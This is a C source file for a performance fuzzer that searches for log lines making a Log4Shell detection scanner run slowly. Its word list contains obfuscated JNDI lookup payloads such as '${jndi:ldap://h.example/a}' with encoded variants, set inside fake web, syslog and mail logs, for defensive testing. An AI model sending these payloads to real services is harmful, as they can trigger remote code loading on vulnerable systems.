/* Looks for lines that cost much: hill climbing over pieces repeated to 64 KiB, in a few kinds of log lines.
 *
 *   hostile [--seconds N] [--seed N] [--bytes N]    prints each worse line it meets: milliseconds, and the line as head,
 *                                                   repeated piece and tail in C escapes
 *
 * A climb starts from random pieces, changes them a little at a time and goes on from what cost most, until nothing got worse
 * for a while. Exit status: 0; 2 usage, 4 no memory. Only an optimised build without sanitizers says anything; what it finds
 * belongs into the list of run.py.
 */
#include "base/limits.h"
#include "pipeline/scan.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

enum { CONFIRM = 6, PIECES = 12, LINE_MAX = 256 * 1024, PATIENCE = 150 };

static const char *const words[] = {
    "${", "}", "$", "{", "$$", "$${", "${a}", "${a", ":", ":-", "::-", "${::-", "${::-a}", "jndi", "jndi:", "${jndi:", "ldap://h.example/a",
    "${jndi:ldap://h.example/a}", "${lower:", "${upper:", "${lower:j}", "${env:", "${env:A}", "${env:A:-j}", "${sys:a}", "${date:", "${date:'a'}",
    "${ctx:a}", "${event:Message}", "${base64:", "${a:-${b}}", ":\\-", "%24%7B", "%24", "%7B", "%7D", "%25", "%2524", "%252524", "%u0024", "%3D",
    "%26", "%5c", "%5cx24", "\\x24", "\\x7b", "\\u0024", "\\\\", "\\", "\\\\u0024", "\\175", "\\\"", "&#36;", "&#x24;", "&dollar;", "&amp;",
    "&amp;amp;", "&lcub;", "&#38;", "&lt", "&", "&a=", "?", "=", "+", " ", "/", "-", "_", "\"", "'", ",", "JHtqbmRpOmxkYXA6Ly9hLmV4YW1wbGUvYX0",
    "JHtqbmRpOmxkYXA6Ly9hLmV4YW1wbGUvYX0=", "SkhScWJtUnBPbXhrWVhBNkx5OWhMbVY0WVcxd2JHVXZZWDA", "JHt9JHt9JHt9JHt9JHt9JHt9", "JSUlJSUlJSUlJSUl",
    "JiYmJiYmJiYmJiYmJiYm", "ICAgICAgICAgICAgICAgICA", "a", "AAAA", "abcd", "0", "\xc4\xb1", "\xef\xbc\x84", "\xc3\xa9", "\xff", "[", "]", "{\"a\":", "}", ";", ".", "\t",
    "=", "=24", "=7B", "=3D", "=253D", "=?utf-8?q?", "=?x?b?", "?=", "=?utf-8?q?=24=7B?=", "=?x?b?JHt9JHt9?=", "&dollar%3B{", "\\u{24%7D", "\\/",
    "&#38", "&#x2e%65", "&#x37%39", "%=324", "<", ">", "from=<", "\\\"${", "${jndi:ldap://&#x37%39/a}", "${jndi:dns://h%2eexample/a}",
    "${hostName}", "${main:0}", "${bundle:a:b}", "${java:os}", "${web:a}", "%", "%2", "%%", "&#", "&#x", "\\x", "\\u", "\\u{24}", "x",
};
enum { WORDS = sizeof words / sizeof *words };

static const struct kind { const char *head, *tail; } kinds[] = {
    {"", ""},
    {"1.2.3.4 - - [10/Dec/2021:14:00:00 +0000] \"GET /", " HTTP/1.1\" 200 1 \"-\" \"-\""},
    {"1.2.3.4 - - [10/Dec/2021:14:00:00 +0000] \"GET /?q=", " HTTP/1.1\" 200 1 \"-\" \"-\""},
    {"1.2.3.4 - - [10/Dec/2021:14:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"", "\""},
    {"{\"a\":\"", "\"}"},
    {"Dec 10 14:00:00 h app[1]: ", ""},
    {"Dec 10 14:00:00 h postfix/cleanup[1]: 4B1: reject: header Subject: ",
     " from h.example[192.0.2.1]; from=<a@b.example> to=<c@d.example> proto=ESMTP helo=<h>: 5.7.1 x"},
    {"2021-12-10 14:00:00 1mvgvE-0001aB-Cd <= a@b.example H=(h) [192.0.2.1] P=esmtp S=1 T=\"", "\""},
};
enum { KINDS = sizeof kinds / sizeof *kinds };

struct shape {
    unsigned kind;
    unsigned n_head, n_unit, n_tail;
    unsigned head[PIECES], unit[PIECES], tail[PIECES];
    size_t bytes;
};

static uint64_t state;

static unsigned below(unsigned n)
{
    state += 0x9e3779b97f4a7c15u;
    uint64_t z = state;
    z = (z ^ z >> 30) * 0xbf58476d1ce4e5b9u;
    z = (z ^ z >> 27) * 0x94d049bb133111ebu;
    return (unsigned)((z ^ z >> 31) % n);
}

static size_t put(char *to, size_t n, const char *text)
{
    size_t m = strlen(text);
    if (n + m > LINE_MAX) return n;
    memcpy(to + n, text, m);
    return n + m;
}

static size_t put_all(char *to, size_t n, const unsigned *list, unsigned count)
{
    for (unsigned i = 0; i < count; i++) n = put(to, n, words[list[i]]);
    return n;
}

static size_t render(const struct shape *s, char *to)
{
    size_t n = put_all(to, put(to, 0, kinds[s->kind].head), s->head, s->n_head), unit = 0;
    char tail[4096];
    size_t n_tail = put(tail, put_all(tail, 0, s->tail, s->n_tail), kinds[s->kind].tail);
    for (unsigned i = 0; i < s->n_unit; i++) unit += strlen(words[s->unit[i]]);
    while (unit && n + unit + n_tail <= s->bytes) n = put_all(to, n, s->unit, s->n_unit);
    memcpy(to + n, tail, n_tail);
    return n + n_tail;
}

static double now_ms(void)
{
    struct timespec t;
    (void)clock_gettime(CLOCK_THREAD_CPUTIME_ID, &t);
    return (double)t.tv_sec * 1e3 + (double)t.tv_nsec / 1e6;
}

/* The best of some runs. */
static double cost(ct_scanner *scanner, const struct shape *s, char *line, int runs)
{
    struct ct_block_result result;
    double best = 1e9;
    size_t n = render(s, line);
    struct ct_block block = {.source = CT_STR_INIT("x"), .bytes = {(unsigned char *)line, n}};
    for (int i = 0; i < runs; i++) {
        double begin = now_ms();
        if (ct_scanner_block(scanner, NULL, &block, 0, &result) != CT_OK) exit(4);
        double used = now_ms() - begin;
        ct_scanner_forget(scanner);
        if (used < best) best = used;
    }
    return best;
}

static void change_list(unsigned *list, unsigned *n, unsigned least)
{
    unsigned at = *n ? below(*n) : 0, w = below(WORDS);
    switch (below(4)) {
    case 0:
        if (*n == PIECES) break;
        memmove(list + at + 1, list + at, (*n - at) * sizeof *list);
        list[at] = w;
        (*n)++;
        break;
    case 1:
        if (*n <= least) break;
        memmove(list + at, list + at + 1, (*n - at - 1) * sizeof *list);
        (*n)--;
        break;
    case 2:
        if (*n) list[at] = w;
        break;
    default:
        if (*n) {
            unsigned other = below(*n), was = list[at];
            list[at] = list[other];
            list[other] = was;
        }
    }
}

static void change(struct shape *s)
{
    for (unsigned i = 1 + below(3); i; i--) {
        switch (below(8)) {
        case 0: s->kind = below(KINDS); break;
        case 1: change_list(s->head, &s->n_head, 0); break;
        case 2: change_list(s->tail, &s->n_tail, 0); break;
        default: change_list(s->unit, &s->n_unit, 1); break;
        }
    }
}

static void print_list(const unsigned *list, unsigned n)
{
    (void)putchar('"');
    for (unsigned i = 0; i < n; i++)
        for (const unsigned char *p = (const unsigned char *)words[list[i]]; *p; p++) {
            if (*p == '"' || *p == '\\') (void)printf("\\%c", *p);
            else if (*p < 0x20 || *p >= 0x7f) (void)printf("\\x%02x", *p);
            else (void)putchar(*p);
        }
    (void)putchar('"');
}

static void print_shape(double ms, const struct shape *s)
{
    (void)printf("%7.2f ms  kind %u  ", ms, s->kind);
    print_list(s->head, s->n_head);
    (void)printf(" + n * ");
    print_list(s->unit, s->n_unit);
    (void)printf(" + ");
    print_list(s->tail, s->n_tail);
    (void)printf("\n");
    (void)fflush(stdout);
}

int main(int argc, char **argv)
{
    double seconds = 60, worst = 0;
    size_t bytes = CT_WINDOW;
    state = (uint64_t)time(NULL);
    for (int i = 1; i < argc; i += 2) {
        if (i + 1 == argc) return 2;
        if (strcmp(argv[i], "--seconds") == 0) seconds = atof(argv[i + 1]);
        else if (strcmp(argv[i], "--seed") == 0) state = strtoull(argv[i + 1], NULL, 10);
        else if (strcmp(argv[i], "--bytes") == 0) bytes = (size_t)strtoull(argv[i + 1], NULL, 10);
        else return 2;
    }
    if (bytes > LINE_MAX) return 2;
    (void)printf("seed %llu\n", (unsigned long long)state);
    struct ct_scan_opts opts = {.format = CT_FORMAT_AUTO, .min_grade = CT_GRADE_LEAK, .since_us = CT_TIME_NONE, .until_us = CT_TIME_NONE, .year = 2021};
    ct_scanner *scanner = NULL;
    char *line = malloc(LINE_MAX + 8192);
    if (!line || ct_scanner_new(&ct_alloc_libc, &opts, &scanner) != CT_OK) return 4;
    double end = now_ms() + seconds * 1000;
    while (now_ms() < end) {
        struct shape s = {.kind = below(KINDS), .n_unit = 1 + below(6), .bytes = bytes};
        for (unsigned i = 0; i < s.n_unit; i++) s.unit[i] = below(WORDS);
        double at = cost(scanner, &s, line, 2);
        for (unsigned idle = 0; idle < PATIENCE && now_ms() < end; idle++) {
            struct shape t = s;
            change(&t);
            double c = cost(scanner, &t, line, 2);
            if (c <= at * 1.01) continue;
            c = cost(scanner, &t, line, CONFIRM); /* a noisy machine makes a line look worse, never better */
            if (c <= at * 1.01) continue;
            s = t;
            at = c;
            idle = 0;
        }
        if (at > worst * 0.8) print_shape(at, &s);
        if (at > worst) worst = at;
    }
    ct_scanner_free(scanner);
    free(line);
    return 0;
}
